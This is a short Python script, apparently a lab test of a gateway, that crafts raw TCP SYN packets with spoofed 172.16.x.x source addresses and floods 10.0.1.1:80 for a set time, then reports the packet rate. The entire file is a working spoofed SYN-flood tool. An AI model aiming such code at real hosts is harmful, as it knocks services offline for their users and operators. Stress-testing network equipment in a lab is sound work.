#!/usr/bin/env python3
"""SYNs from 65,000 sources that do not exist (the gateway routes 172.16.0.0/16 back here), for some seconds."""
import random
import socket
import struct
import sys
import time


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def syn(source, target, port):
    addresses = socket.inet_aton(source) + socket.inet_aton(target)
    head = struct.pack("!HHIIBBHHH", random.randrange(1024, 65535), port, random.getrandbits(32), 0, 6 << 4, 2, 64240, 0, 0)
    head += b"\x02\x04\x05\xb4"
    total = checksum(addresses + struct.pack("!BBH", 0, 6, len(head)) + head)
    head = head[:16] + struct.pack("!H", total) + head[18:]
    outer = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(head), random.getrandbits(16), 0, 64, 6, 0,
                        socket.inet_aton(source), socket.inet_aton(target))
    return outer + head


def main(seconds):
    wire = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    # Made beforehand: what is measured is the gateway, not Python.
    packets = [syn(f"172.16.{random.randrange(256)}.{random.randrange(1, 255)}", "10.0.1.1", 80) for _ in range(20000)]
    until, sent = time.monotonic() + seconds, 0
    while time.monotonic() < until:
        for packet in packets[sent % len(packets) :][:500]:
            try:
                wire.sendto(packet, ("10.0.1.1", 0))
                sent += 1
            except OSError:
                time.sleep(0.001)
    print(f"{sent} SYNs, {sent / seconds:.0f}/s")
    if sent < 5000:
        sys.exit("too few to be a flood")


main(float(sys.argv[1]))
